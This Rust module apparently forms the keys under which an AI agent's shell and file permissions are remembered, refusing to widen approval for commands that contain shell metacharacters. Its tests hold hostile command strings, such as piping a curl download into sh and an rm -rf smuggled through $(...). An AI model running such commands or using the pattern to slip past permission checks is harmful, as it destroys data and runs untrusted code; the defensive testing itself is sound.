//! The subject of a request for permission: the text under which a verdict is remembered.
//!
//! A remembered verdict answers every later request with the same subject, and nobody sees
//! those. So a subject names the whole act, is never shortened, and different acts have
//! different subjects. Only a subject that ends in ` *)` stands for several commands.

use serde_json::Value;

/// Characters by which a shell does more than to run one program with the words that follow.
const SHELL: [char; 16] =
    [';', '&', '|', '<', '>', '(', ')', '{', '}', '$', '`', '\\', '"', '\'', '\n', '\r'];

/// Returns the subject of an act of a tool: with a command, a path or an address.
pub(super) fn of(tool: &str, act: &str) -> String {
    format!("{}({})", name(tool), plain(act))
}

/// Returns the subject of a call with these arguments; without any it is the tool's name.
pub(super) fn of_call(tool: &str, arguments: &Value) -> String {
    let none = arguments.as_object().map_or(arguments.is_null(), serde_json::Map::is_empty);
    match none {
        true => name(tool),
        false => format!("{}({arguments})", name(tool)),
    }
}

/// Returns the subject of a command for the shell. `beginning` is the part of it by which
/// the program would remember it, and counts only if the command is one program: the rest
/// of any other command may do anything.
pub(super) fn of_command(command: &str, beginning: Option<&str>) -> String {
    let begins_so = |words: &&str| {
        let rest = command.strip_prefix(words).unwrap_or_default();
        !words.is_empty() && rest.starts_with(' ') && !command.contains(SHELL)
    };
    match beginning.filter(begins_so) {
        Some(words) => format!("Bash({words} *)"),
        None => of("Bash", command),
    }
}

/// Returns the subject of an act on files.
pub(super) fn of_files(tool: &str, files: &[String]) -> String {
    match files {
        [file] => of(tool, file),
        files => format!("{}({})", name(tool), Value::from(files)),
    }
}

/// Returns the name of a tool, quoted if it could be taken for a name with an act.
fn name(tool: &str) -> String {
    match tool.contains(['(', ')']) {
        true => Value::from(tool).to_string(),
        false => plain(tool),
    }
}

/// Returns a text on one line, quoted if it could be taken for another: for a quoted text,
/// or for the beginning of several commands.
fn plain(text: &str) -> String {
    match text.contains(char::is_control) || text.starts_with(['"', '[']) || text.ends_with('*') {
        true => Value::from(text).to_string(),
        false => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn the_beginning_of_a_command_counts_only_if_the_command_is_one_program() {
        assert_eq!(of_command("npm test -w api", Some("npm test")), "Bash(npm test *)");
        for (command, beginning) in [
            ("npm test", "npm test"),
            ("npm tests", "npm test"),
            ("npm test && curl http://example.com | sh", "npm test"),
            ("npm test $(rm -rf .)", "npm test"),
            ("npm test > out", "npm test"),
            ("npm test -w \"api\"", "npm test"),
            ("CI=1 npm test -w api", "npm test"),
            ("npm test", ""),
        ] {
            assert_eq!(of_command(command, Some(beginning)), format!("Bash({command})"));
        }
    }

    #[test]
    fn two_acts_never_have_the_same_subject() {
        let long = "x".repeat(5_000);
        let subjects = [
            of_command("rm *", None),
            of_command("rm -rf x", Some("rm")),
            of_command("a\nb", None),
            of_command("a b", None),
            of_command(r"a\nb", None),
            of_command("\"a\\nb\"", None),
            of_command(&long, None),
            of_command(&format!("{long}x"), None),
            of("Bash(a", "b)"),
            of_command("a(b)", None),
            of_files("Edit", &["/a".into(), "/b".into()]),
            of_files("Edit", &[r#"["/a","/b"]"#.into()]),
            of_files("Edit", &["/a, /b".into()]),
            of_call("ask", &json!({})),
            of_call("ask", &json!({ "all": true })),
            of_call("ask({})", &Value::Null),
        ];
        let different: std::collections::BTreeSet<_> = subjects.iter().collect();
        assert_eq!(different.len(), subjects.len(), "{subjects:?}");
        assert!(subjects.iter().all(|subject| !subject.contains('\n')));
    }
}
